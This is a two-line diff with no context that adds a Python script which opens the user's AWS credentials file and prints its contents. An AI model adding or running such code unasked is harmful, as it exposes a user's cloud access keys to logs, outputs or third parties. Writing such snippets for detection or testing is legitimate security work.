@@ -1,0 +1,2 @@
+import os
+print(open(os.environ["HOME"] + "/.aws/credentials").read())
